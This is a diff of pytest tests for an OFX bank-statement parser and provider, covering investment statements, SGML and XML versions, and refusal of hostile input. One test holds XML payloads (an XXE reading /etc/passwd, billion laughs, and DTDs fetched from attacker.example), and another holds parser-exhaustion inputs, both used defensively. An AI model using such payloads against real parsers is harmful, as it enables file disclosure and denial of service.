@@ -10,7 +10,15 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 import pytest
 
 from accounts.credentials import BankCredentials
-from accounts.providers.base import ConnectionParams, ProviderAuthError, ProviderDataError, ProviderUnavailable
+from accounts.demo_bank.persona import BANK_TZ, persona_for
+from accounts.demo_bank.server import Signon
+from accounts.providers.base import (
+    AccountRef,
+    ConnectionParams,
+    ProviderAuthError,
+    ProviderDataError,
+    ProviderUnavailable,
+)
 from accounts.providers.http import UnsafeURL, _is_public, url_resolve
 from accounts.providers.ofx import OfxDirectConnect, statements_parse
 
@@ -22,12 +30,14 @@ def provider():
     return OfxDirectConnect()
 
 
-def test_discover_lists_the_checking_and_card_accounts(provider, demo_bank):
+def test_discover_lists_the_checking_card_and_brokerage_accounts(provider, demo_bank):
     accounts = provider.discover(ConnectionParams(url=demo_bank.url), BankCredentials("alice", demo_bank.password))
     assert [(a.name, a.ref.kind) for a in accounts] == [
         ("Everyday Checking", "checking"),
         ("Rewards Visa", "credit-card"),
+        ("Brokerage", "investment"),
     ]
+    assert accounts[2].ref == AccountRef("570000042", "investment", "demo-broker.example", "INVESTMENT")
 
 
 def test_wrong_password_is_an_auth_error(provider, demo_bank):
@@ -179,7 +189,7 @@ def test_a_redirect_on_the_same_host_is_followed(provider, demo_bank):
         accounts = provider.discover(ConnectionParams(url=redirector.url), BankCredentials("alice", demo_bank.password))
     finally:
         redirector.shutdown()
-    assert len(accounts) == 2
+    assert len(accounts) == 3
 
 
 def test_a_redirect_to_another_host_never_receives_the_password(provider, demo_bank):
@@ -268,3 +278,253 @@ def test_a_foreign_currency_line_is_converted_to_the_statement_currency():
     )
     [statement] = statements_parse(raw).statements
     assert statement.lines[0].amount == Decimal("-10.85")
+
+
+def _brokerage(provider, params, credentials):
+    [ref] = [account.ref for account in provider.discover(params, credentials) if account.ref.kind == "investment"]
+    return ref
+
+
+def test_an_investment_statement_has_the_cash_moves_and_the_accounts_value(provider, demo_bank):
+    demo_bank.today = TODAY
+    params, credentials = ConnectionParams(url=demo_bank.url), BankCredentials("alice", demo_bank.password)
+    ref = _brokerage(provider, params, credentials)
+
+    raw = provider.fetch(params, credentials, [ref], dt.date(2026, 9, 1), TODAY)
+    [statement] = provider.parse(raw).statements
+
+    assert statement.account == ref
+    lines = {line.posted_on: line for line in statement.lines}
+    contribution, buy, dividend = lines[dt.date(2026, 9, 2)], lines[dt.date(2026, 9, 3)], lines[dt.date(2026, 9, 24)]
+    assert (contribution.description, contribution.amount) == ("ACH CONTRIBUTION", Decimal("400.00"))
+    assert buy.description == "BUY 3.002 VTSAX"  # units, and the ticker from SECLIST
+    assert buy.amount == Decimal("-399.99")
+    assert buy.memo == "AUTOMATIC INVESTMENT"
+    # Paid at 22:30 at -5:00 on September 24th, already the 25th in UTC: the bank's date is kept.
+    assert dividend.description == "DIVIDEND VTSAX"
+    assert dividend.amount > 0
+    holdings = persona_for("alice").holdings(TODAY)
+    assert statement.balance == holdings.cash + holdings.market_value  # cash plus the fund's market value
+    assert statement.balance > holdings.cash
+    assert statement.balance_as_of == dt.datetime(2026, 11, 21, 23, 59, tzinfo=BANK_TZ)
+
+
+def test_an_investment_window_fetched_twice_has_the_same_fitids(provider, demo_bank):
+    demo_bank.today = TODAY
+    params, credentials = ConnectionParams(url=demo_bank.url), BankCredentials("alice", demo_bank.password)
+    ref = _brokerage(provider, params, credentials)
+
+    def lines():
+        [statement] = provider.parse(provider.fetch(params, credentials, [ref], dt.date(2026, 6, 1), TODAY)).statements
+        return [(line.external_id, line.amount) for line in statement.lines]
+
+    first = lines()
+    assert len(first) == 14  # six months of contribution and purchase, two dividends
+    assert first == lines()
+
+
+def test_ofx_102_is_sgml_both_ways_and_carries_the_app_id(provider, demo_bank):
+    demo_bank.today = TODAY
+    credentials = BankCredentials("alice", demo_bank.password)
+    sgml = ConnectionParams(url=demo_bank.url, ofx_version=102, app_id="QWIN", app_version="2900")
+    refs = [account.ref for account in provider.discover(sgml, credentials)]
+
+    raw = provider.fetch(sgml, credentials, refs, dt.date(2026, 10, 1), TODAY)
+
+    # The request was 1.02 SGML, data elements unclosed; so was the answer.
+    assert demo_bank.server.bank.last_signon == Signon(
+        version=102, userid="alice", appid="QWIN", appver="2900", closes_data_elements=False
+    )
+    assert raw.startswith(b"OFXHEADER:100")
+    assert b"<CODE>0<" in raw
+    assert b"</TRNAMT>" not in raw
+    # And it reads exactly as the same statements in OFX 2.2 XML do.
+    xml = ConnectionParams(url=demo_bank.url)
+    xml_raw = provider.fetch(xml, credentials, refs, dt.date(2026, 10, 1), TODAY)
+    assert xml_raw.startswith(b"<?xml")
+    assert provider.parse(raw).statements == provider.parse(xml_raw).statements
+
+
+def test_blank_app_id_and_version_send_ofxtools_defaults_in_xml(provider, demo_bank):
+    provider.discover(ConnectionParams(url=demo_bank.url), BankCredentials("alice", demo_bank.password))
+    assert demo_bank.server.bank.last_signon == Signon(
+        version=220, userid="alice", appid="QWIN", appver="2700", closes_data_elements=True
+    )
+
+
+@pytest.mark.parametrize(
+    ("params", "message"),
+    [
+        ({"ofx_version": 150}, "OFX version 150 does not exist"),
+        ({"ofx_version": 230}, "OFX version 230 does not exist"),
+        ({"app_id": "QUICKEN"}, "APPID"),
+        ({"app_version": "12345"}, "APPVER"),
+    ],
+)
+def test_connection_parameters_ofx_does_not_define_are_refused_before_sending(provider, demo_bank, params, message):
+    demo_bank.server.bank.last_signon = None
+    with pytest.raises(ProviderDataError, match=message):
+        provider.discover(ConnectionParams(url=demo_bank.url, **params), BankCredentials("alice", demo_bank.password))
+    assert demo_bank.server.bank.last_signon is None
+
+
+SGML_HEADER = (
+    b"OFXHEADER:100\r\nDATA:OFXSGML\r\nVERSION:102\r\nSECURITY:NONE\r\nENCODING:USASCII\r\n"
+    b"CHARSET:1252\r\nCOMPRESSION:NONE\r\nOLDFILEUID:NONE\r\nNEWFILEUID:NONE\r\n\r\n"
+)
+SIGNON = b"<SIGNONMSGSRSV1><SONRS><STATUS><CODE>0<SEVERITY>INFO</STATUS><DTSERVER>20261101<LANGUAGE>ENG</SONRS>"
+
+
+def investment_statement(*transactions: bytes, seclist: bytes = b"", balances: bytes = b"") -> bytes:
+    """An OFX 1.x investment statement file with these INVTRANLIST entries."""
+    return (
+        SGML_HEADER + b"<OFX>" + SIGNON + b"</SIGNONMSGSRSV1>"
+        b"<INVSTMTMSGSRSV1><INVSTMTTRNRS><TRNUID>1<STATUS><CODE>0<SEVERITY>INFO</STATUS>"
+        b"<INVSTMTRS><DTASOF>20261101<CURDEF>USD<INVACCTFROM><BROKERID>broker.example<ACCTID>99</INVACCTFROM>"
+        b"<INVTRANLIST><DTSTART>20261001<DTEND>20261101"
+        + b"".join(transactions)
+        + b"</INVTRANLIST>"
+        + balances
+        + b"</INVSTMTRS></INVSTMTTRNRS></INVSTMTMSGSRSV1>"
+        + seclist
+        + b"</OFX>"
+    )
+
+
+def _invtran(fitid: str, memo: str = "") -> bytes:
+    memo_element = f"<MEMO>{memo}" if memo else ""
+    return f"<INVTRAN><FITID>{fitid}<DTTRADE>20261014213000.000[-5:EST]{memo_element}</INVTRAN>".encode()
+
+
+ACME = b"<SECID><UNIQUEID>000000001<UNIQUEIDTYPE>CUSIP</SECID>"
+SELL_ACME = (
+    b"<SELLSTOCK><INVSELL>" + _invtran("S1", "SOLD 5 ACME CORP") + ACME + b"<UNITS>-5<UNITPRICE>20"
+    b"<TOTAL>99.95<SUBACCTSEC>CASH<SUBACCTFUND>CASH</INVSELL><SELLTYPE>SELL</SELLSTOCK>"
+)
+REINVEST_VTI = (
+    b"<REINVEST>" + _invtran("R1") + b"<SECID><UNIQUEID>922908769<UNIQUEIDTYPE>CUSIP</SECID>"
+    b"<INCOMETYPE>DIV<TOTAL>-12.34<SUBACCTSEC>CASH<UNITS>0.0512<UNITPRICE>241.02</REINVEST>"
+)
+SPLIT_VTI = (  # shares only: no TOTAL
+    b"<SPLIT>" + _invtran("X1") + b"<SECID><UNIQUEID>922908769<UNIQUEIDTYPE>CUSIP</SECID>"
+    b"<SUBACCTSEC>CASH<OLDUNITS>10<NEWUNITS>20<NUMERATOR>2<DENOMINATOR>1</SPLIT>"
+)
+VTI_IN_SECLIST = (
+    b"<SECLISTMSGSRSV1><SECLIST><STOCKINFO><SECINFO><SECID><UNIQUEID>922908769<UNIQUEIDTYPE>CUSIP</SECID>"
+    b"<SECNAME>Vanguard Total Stock Market ETF<TICKER>VTI</SECINFO></STOCKINFO></SECLIST></SECLISTMSGSRSV1>"
+)
+
+
+def test_investment_lines_are_named_from_seclist_else_from_the_memo_and_shares_only_moves_are_skipped():
+    [statement] = statements_parse(
+        investment_statement(SELL_ACME, REINVEST_VTI, SPLIT_VTI, seclist=VTI_IN_SECLIST)
+    ).statements
+
+    assert [(line.external_id, line.description, line.amount) for line in statement.lines] == [
+        ("S1", "SOLD 5 ACME CORP", Decimal("99.95")),  # ACME is not in SECLIST: the bank's memo
+        ("R1", "REINVEST 0.0512 VTI", Decimal("-12.34")),
+    ]
+    assert all(line.posted_on == dt.date(2026, 10, 14) for line in statement.lines)  # 21:30 at -5:00
+    assert statement.account == AccountRef("99", "investment", "broker.example", "INVESTMENT")
+    assert statement.balance is None  # no INVBAL: the account's value is unknown
+
+
+def test_an_investment_account_without_positions_is_worth_its_cash():
+    balances = b"<INVBAL><AVAILCASH>1520.5<MARGINBALANCE>0<SHORTBALANCE>0</INVBAL>"
+    [statement] = statements_parse(investment_statement(REINVEST_VTI, balances=balances)).statements
+    assert statement.balance == Decimal("1520.50")
+    assert statement.lines[0].description == "REINVEST 0.0512 922908769"  # no SECLIST, no memo: the CUSIP
+
+
+XML_HEADER = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\r\n'
+    b'<?OFX OFXHEADER="200" VERSION="220" SECURITY="NONE" OLDFILEUID="NONE" NEWFILEUID="NONE"?>\r\n'
+)
+
+
+def xml_card_statement(prolog: bytes = b"", name: bytes = b"SHELL OIL") -> bytes:
+    """An OFX 2.2 credit-card statement with one transaction, `prolog` before its root element."""
+    return (
+        XML_HEADER + prolog + b"<OFX><SIGNONMSGSRSV1><SONRS><STATUS><CODE>0</CODE><SEVERITY>INFO</SEVERITY></STATUS>"
+        b"<DTSERVER>20261101</DTSERVER><LANGUAGE>ENG</LANGUAGE></SONRS></SIGNONMSGSRSV1>"
+        b"<CREDITCARDMSGSRSV1><CCSTMTTRNRS><TRNUID>1</TRNUID><STATUS><CODE>0</CODE><SEVERITY>INFO</SEVERITY></STATUS>"
+        b"<CCSTMTRS><CURDEF>USD</CURDEF><CCACCTFROM><ACCTID>4000001234567899</ACCTID></CCACCTFROM>"
+        b"<BANKTRANLIST><DTSTART>20261001</DTSTART><DTEND>20261101</DTEND><STMTTRN><TRNTYPE>DEBIT</TRNTYPE>"
+        b"<DTPOSTED>20261030</DTPOSTED><TRNAMT>-40.00</TRNAMT><FITID>A1</FITID><NAME>" + name + b"</NAME>"
+        b"</STMTTRN></BANKTRANLIST><LEDGERBAL><BALAMT>0</BALAMT><DTASOF>20261101</DTASOF></LEDGERBAL>"
+        b"</CCSTMTRS></CCSTMTTRNRS></CREDITCARDMSGSRSV1></OFX>"
+    )
+
+
+def test_an_ofx_2_xml_statement_parses():
+    [statement] = statements_parse(xml_card_statement()).statements
+    assert statement.lines[0].description == "SHELL OIL"
+
+
+LAUGHS = b"".join(
+    b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10 if level else b"lol") for level in range(10)
+)
+
+
+@pytest.mark.parametrize(
+    ("prolog", "name"),
+    [
+        (b'<!DOCTYPE OFX [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', b"&xxe;"),  # external entity
+        (b"<!DOCTYPE OFX [" + LAUGHS + b"]>", b"&lol9;"),  # billion laughs
+        (b'<!DOCTYPE OFX [<!ENTITY a "' + b"a" * 50_000 + b'">]>', b"&a;" * 10_000),  # quadratic blowup
+        (b'<!DOCTYPE OFX SYSTEM "https://attacker.example/ofx.dtd">', b"SHELL OIL"),  # external DTD
+        (b'<!doctype OFX [<!entity % p SYSTEM "https://attacker.example/p">%p;]>', b"SHELL OIL"),
+    ],
+)
+def test_dtds_and_entity_declarations_are_refused_before_parsing(prolog, name):
+    with pytest.raises(ProviderDataError) as caught:
+        statements_parse(xml_card_statement(prolog, name))
+    assert str(caught.value) == "The OFX document contains a DTD or entity declarations, which are not allowed."
+
+
+TWENTY_MB = 20 * 1024 * 1024
+
+
+@pytest.mark.parametrize(
+    ("raw", "message"),
+    [
+        (XML_HEADER + b"<OFX>" * (TWENTY_MB // 5), "more than 500,000 elements"),
+        (XML_HEADER + (b"<OFX>" + b" " * 100) * (TWENTY_MB // 105), "nested more than 32 deep"),
+        (SGML_HEADER + b"<OFX>" + b"<A><![CDATA[x" * 200_000, "CDATA section is not closed"),
+        (b"<?xml" + b" " * TWENTY_MB + b"x", "does not start with an OFX header"),
+        (b"OFXHEADER:100 DATA:NONE<OFX>" + b" " * TWENTY_MB + b"<A>", "header is malformed"),
+    ],
+    ids=["20 MB of nested tags", "nesting padded under the element limit", "unclosed CDATA", "xml-spaces", "spaces"],
+)
+def test_documents_built_to_exhaust_the_parser_fail_within_seconds(raw, message):
+    started = time.monotonic()
+    with pytest.raises(ProviderDataError, match=message):
+        statements_parse(raw)
+    assert time.monotonic() - started < 3
+
+
+@pytest.mark.parametrize("version", [220, 102])
+def test_a_truncated_download_is_refused_not_half_imported(provider, demo_bank, version):
+    demo_bank.today = TODAY
+    params, credentials = ConnectionParams(url=demo_bank.url, ofx_version=version), BankCredentials("alice", "demo")
+    refs = [account.ref for account in provider.discover(params, credentials)]
+    raw = provider.fetch(params, credentials, refs, dt.date(2026, 10, 1), TODAY)
+    # Cut at half, and just after a whole transaction (where every element so far is complete).
+    after_a_transaction = raw.index(b"</STMTTRN>", len(raw) // 2) + len(b"</STMTTRN>")
+
+    for cut in (raw[: len(raw) // 2], raw[:after_a_transaction]):
+        with pytest.raises(ProviderDataError, match="incomplete"):
+            provider.parse(cut)
+
+
+def test_cdata_sections_on_one_line_are_read_one_by_one_and_fast():
+    """ofxtools' greedy pattern reads from the first CDATA to the last on a line, in quadratic time."""
+    lines = [
+        b"<STMTTRN><TRNTYPE>DEBIT<DTPOSTED>20261030<TRNAMT>-1.00<FITID>F%d<NAME><![CDATA[AT&T #%d]]></STMTTRN>"
+        % (number, number)
+        for number in range(5000)
+    ]
+    started = time.monotonic()
+    [statement] = statements_parse(card_statement(*lines)).statements
+    assert time.monotonic() - started < 5
+    assert [line.description for line in statement.lines[:2]] == ["AT&T #0", "AT&T #1"]
